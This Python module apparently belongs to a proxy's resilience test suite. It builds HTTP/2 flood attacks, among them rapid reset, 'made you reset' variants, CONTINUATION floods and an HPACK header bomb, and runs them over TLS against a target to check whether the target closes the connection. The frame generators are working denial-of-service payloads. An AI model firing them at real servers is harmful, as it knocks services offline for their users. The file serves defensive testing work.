"""Floods, each as the endless bytes of one connection; as a program, floods one victim for a while with several kinds in turn.

The program is a process of its own: a flood in a thread of the test would slow down the very measurement that it is to disturb.
"""

import json
import os
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from itertools import count

from tests.nodeagent.ztunnel.proxy.attacks import frames
from tests.nodeagent.ztunnel.proxy.attacks.frames import Kind
from tests.nodeagent.ztunnel.proxy.attacks.peer import HBONE_PORT

BATCH = 32
Flood = Callable[[bytes], Iterator[bytes]]


def _per_stream(unit: Callable[[int, bytes], bytes]) -> Flood:
    """A new stream for each repetition."""

    def flood(authority: bytes) -> Iterator[bytes]:
        connect = frames.connect_block(authority)
        for first in count(1, 2 * BATCH):
            yield b"".join(unit(stream, connect) for stream in range(first, first + 2 * BATCH, 2))

    return flood


def _repeated(frame: bytes, *, behind: Callable[[bytes], bytes] = lambda _: b"") -> Flood:
    """The same frame again and again, behind an opening."""

    def flood(authority: bytes) -> Iterator[bytes]:
        yield behind(frames.connect_block(authority))
        while True:
            yield frame * BATCH

    return flood


def _priority(depends_on: int) -> bytes:
    return struct.pack("!IB", depends_on, 15)


def _unending_headers(encoded: bytes) -> bytes:
    return frames.frame(Kind.HEADERS, 0, 1, encoded)


def _bomb(_: bytes) -> Iterator[bytes]:
    """One large field put into the decoder's table and referred to 16,000 times a request: 64 MB out of 20 KB."""
    large = b"\x40" + frames.integer(1, 7) + b"x" + frames.integer(4000, 7) + b"y" * 4000
    for stream in count(1, 2):
        yield frames.headers(stream, (large if stream == 1 else b"") + b"\xbe" * 16000)


# What makes the victim reset a stream by itself, so that no reset of ours is seen ("made you reset").
MADE_YOU_RESET: dict[str, Flood] = {
    "window_of_nothing": _per_stream(lambda stream, connect: frames.headers(stream, connect) + frames.window_update(stream, 0)),
    "window_overflow": _per_stream(lambda stream, connect: frames.headers(stream, connect) + frames.window_update(stream, 0x7FFFFFFF)),
    "priority_of_wrong_size": _per_stream(
        lambda stream, connect: frames.headers(stream, connect) + frames.frame(Kind.PRIORITY, 0, stream, b"four")
    ),
    "priority_on_itself": _per_stream(
        lambda stream, connect: frames.headers(stream, connect) + frames.frame(Kind.PRIORITY, 0, stream, _priority(stream))
    ),
    "headers_behind_the_end": _per_stream(
        lambda stream, connect: frames.headers(stream, connect, end=True) + frames.headers(stream, connect)
    ),
    "data_behind_the_end": _per_stream(lambda stream, connect: frames.headers(stream, connect, end=True) + frames.data(stream, b"more")),
}
RESETS: dict[str, Flood] = {
    "rapid_reset": _per_stream(lambda stream, connect: frames.headers(stream, connect) + frames.reset(stream)),
    "too_many_streams": _per_stream(frames.headers),
    "nonsense_requests_reset": _per_stream(lambda stream, _: frames.headers(stream, b"\x82") + frames.reset(stream)),
    **MADE_YOU_RESET,
}
CONTROL: dict[str, Flood] = {
    "ping": _repeated(frames.frame(Kind.PING, 0, 0, b"8 bytes!")),
    "settings": _repeated(frames.settings((4, 65535), (1, 0))),
    "empty_data": _repeated(frames.data(1, b""), behind=lambda connect: frames.headers(1, connect)),
    "window_updates": _repeated(frames.window_update(0, 1)),
    "priorities": _repeated(frames.frame(Kind.PRIORITY, 0, 9, _priority(1))),
    "unknown_frames": _repeated(frames.frame(0xFE, 0, 0, b"")),
    "continuation": _repeated(frames.frame(Kind.CONTINUATION, 0, 1, b"\0\x01x\x01y" * 100), behind=_unending_headers),
    "empty_continuation": _repeated(frames.frame(Kind.CONTINUATION, 0, 1, b""), behind=_unending_headers),
    "header_bomb": _bomb,
    "one_endless_header": _repeated(
        frames.frame(Kind.CONTINUATION, 0, 1, b"y" * 10000), behind=lambda _: _unending_headers(b"\0\x01x" + frames.integer(1 << 24, 7))
    ),
    "padding_alone": _repeated(
        frames.frame(Kind.DATA, 0x8, 1, bytes([255]) + bytes(255)), behind=lambda connect: frames.headers(1, connect)
    ),
}
ALL = RESETS | CONTROL


def pour(connection: ssl.SSLSocket, chunks: Iterator[bytes], *, until_s: float) -> bool:
    """Sends and drops what comes back; whether the victim ended the connection before the time (time.monotonic) was over."""
    for chunk in chunks:
        if time.monotonic() >= until_s:
            return False
        try:
            connection.settimeout(1.0)
            connection.sendall(chunk)
            connection.settimeout(0)
            if not connection.recv(1 << 16):
                return True
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            continue
        except TimeoutError:
            return False
        except OSError:
            return True
    return False


def main(address: str, authority: str, credentials: str, seconds: str, *kinds: str) -> None:
    # The victim's fairness is what is measured, not that of the kernel between two processes.
    os.nice(10)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(credentials)
    ended = dict.fromkeys(kinds, 0)
    print("ready", flush=True)
    end_s = time.monotonic() + float(seconds)
    while time.monotonic() < end_s:
        for kind in kinds:
            with socket.create_connection((address, HBONE_PORT), timeout=3) as plain, context.wrap_socket(plain) as connection:
                connection.sendall(frames.PREFACE + frames.settings())
                ended[kind] += pour(connection, ALL[kind](authority.encode()), until_s=min(end_s, time.monotonic() + 1))
    print(json.dumps(ended))


if __name__ == "__main__":
    main(*sys.argv[1:])
